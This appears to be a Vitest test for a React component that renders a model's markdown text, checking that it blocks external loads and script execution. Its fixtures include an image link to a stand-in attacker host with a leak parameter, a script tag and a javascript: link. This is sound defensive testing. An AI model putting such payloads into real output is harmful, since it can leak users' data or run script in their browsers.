import { render, screen } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import MarkdownText from './markdown.tsx';

describe('text of a model', () => {
  it('[WEB-2] loads nothing from elsewhere and runs nothing', () => {
    const { container } = render(
      <MarkdownText
        text={[
          '![chart](https://evil.example/?leak=1)',
          '<img src="https://evil.example/">',
          '<script>alert(1)</script>',
          '[a link](javascript:alert(1))',
          '**bold**',
        ].join('\n\n')}
      />,
    );
    expect(container.querySelector('img, script, iframe')).toBeNull();
    expect(screen.getByText('[image: chart]')).toBeVisible();
    expect(screen.getByText('a link').closest('a')?.getAttribute('href') ?? '').not.toContain('javascript');
    expect(screen.getByText('bold').tagName).toBe('STRONG');
  });
});
